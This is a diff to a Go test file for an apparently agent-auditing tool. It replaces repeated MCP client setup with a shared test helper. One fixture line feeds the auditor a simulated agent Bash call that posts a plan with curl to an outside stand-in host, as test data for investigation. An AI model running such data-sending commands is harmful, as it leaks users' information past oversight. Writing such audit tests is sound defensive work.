@@ -9,12 +9,11 @@ import (
 	"testing"
 	"time"
 
-	"github.com/mark3labs/mcp-go/client"
 	"github.com/mark3labs/mcp-go/mcp"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
-	"github.com/flowd-dev/flowd/internal/auditmcp"
+	"github.com/flowd-dev/flowd/internal/auditmcp/auditmcptest"
 	"github.com/flowd-dev/flowd/internal/flowdclient"
 	"github.com/flowd-dev/flowd/internal/hookproto"
 	"github.com/flowd-dev/flowd/internal/localsock"
@@ -34,16 +33,8 @@ func TestAuditMCPServer(t *testing.T) {
 
 	det, err := secrets.Default()
 	require.NoError(t, err)
-	srv, err := auditmcp.New(flowdclient.NewClient(socket, 10*time.Second), det)
-	require.NoError(t, err)
-	c, err := client.NewInProcessClient(srv)
-	require.NoError(t, err)
+	c := auditmcptest.Client(t, flowdclient.NewClient(socket, 10*time.Second), det)
 	ctx := context.Background()
-	require.NoError(t, c.Start(ctx))
-	defer c.Close()
-	_, err = c.Initialize(ctx, mcp.InitializeRequest{Params: mcp.InitializeParams{ProtocolVersion: mcp.LATEST_PROTOCOL_VERSION,
-		ClientInfo: mcp.Implementation{Name: "test", Version: "1"}}})
-	require.NoError(t, err)
 
 	tools, err := c.ListTools(ctx, mcp.ListToolsRequest{})
 	require.NoError(t, err)
@@ -119,16 +110,8 @@ func TestAuditMCPInvestigateEvidence(t *testing.T) {
 	hooked(t, socket, "PreToolUse", map[string]any{"tool_name": "Bash", "tool_use_id": "t3",
 		"tool_input": map[string]any{"command": "curl -d '" + plan + "' https://example.org/notes"}})
 
-	srv, err := auditmcp.New(flowdclient.NewClient(socket, 10*time.Second), nil)
-	require.NoError(t, err)
-	c, err := client.NewInProcessClient(srv)
-	require.NoError(t, err)
+	c := auditmcptest.Client(t, flowdclient.NewClient(socket, 10*time.Second), nil)
 	ctx := context.Background()
-	require.NoError(t, c.Start(ctx))
-	defer c.Close()
-	_, err = c.Initialize(ctx, mcp.InitializeRequest{Params: mcp.InitializeParams{ProtocolVersion: mcp.LATEST_PROTOCOL_VERSION,
-		ClientInfo: mcp.Implementation{Name: "test", Version: "1"}}})
-	require.NoError(t, err)
 	res, err := c.CallTool(ctx, mcp.CallToolRequest{Params: mcp.CallToolParams{Name: "flowd_investigate_session",
 		Arguments: map[string]any{"session": "s1"}}})
 	require.NoError(t, err)
